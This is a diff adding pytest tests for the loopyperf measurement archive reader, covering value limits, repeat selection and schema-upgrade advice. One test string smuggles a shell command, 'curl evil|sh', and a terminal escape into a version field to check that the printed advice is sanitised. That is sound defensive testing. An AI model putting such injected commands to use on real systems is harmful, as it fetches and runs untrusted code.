@@ -2,17 +2,21 @@
 
 import gzip
 import lzma
+import random
+import re
 import tracemalloc
 from collections.abc import Callable
 from datetime import UTC, datetime
+from math import inf
 from pathlib import Path
 
+import msgspec
 import pytest
 
 from loopyperf.errors import ArchiveError
 from loopyperf.measurement import archive as archive_module
 from loopyperf.measurement.archive import Archive, read_archive
-from loopyperf.measurement.records import Measurement, encode
+from loopyperf.measurement.records import Measurement, Takes, encode
 
 from .synthetic import run
 
@@ -53,6 +57,36 @@ def test_decompression_bomb_is_rejected_before_it_is_unpacked(
         peak = tracemalloc.get_traced_memory()[1]
         tracemalloc.stop()
         assert peak < 2**26
+
+
+def test_archive_of_many_values_is_rejected(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(archive_module, "VALUES", 1000)
+    path.write_bytes(encode(FIRST) + encode(msgspec.structs.replace(MEASURED, samples=(1.0,) * 1000)))
+    with pytest.raises(ArchiveError, match=r"cannot read .*: more than 1,000 values"):
+        read_archive(path)
+
+
+def test_standing_repeat_is_the_latest_with_the_fastest_reference_kernel() -> None:
+    rng = random.Random(0)
+    for _ in range(50):
+        taken = [
+            msgspec.structs.replace(MEASURED, attempt=place + 1, yardstick=rng.choice((None, 1.0, 2.0, 3.0)))
+            for place in range(rng.randrange(1, 8))
+        ]
+        fastest = min(inf if each.yardstick is None else each.yardstick for each in taken)
+        latest = [each for each in taken if (inf if each.yardstick is None else each.yardstick) == fastest][-1]
+        assert Takes(taken).completed == {MEASURED.key: latest}
+
+
+def test_advice_for_a_later_schema_contains_only_version_numbers(path: Path) -> None:
+    for writer, advised in (
+        ("2.1.0", "'loopyperf>=2.1.0'"),
+        ("1'; curl evil|sh; '\x1b]0;x\x07", "--upgrade loopyperf"),
+    ):
+        document = msgspec.json.decode(encode(FIRST)) | {"schema": 99, "written_by": writer}
+        path.write_bytes(msgspec.json.encode(document) + b"\n")
+        with pytest.raises(ArchiveError, match=f"upgrade: pip install {re.escape(advised)}$"):
+            read_archive(path)
 
 
 def test_xz_dictionary_larger_than_the_memory_limit_is_rejected(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
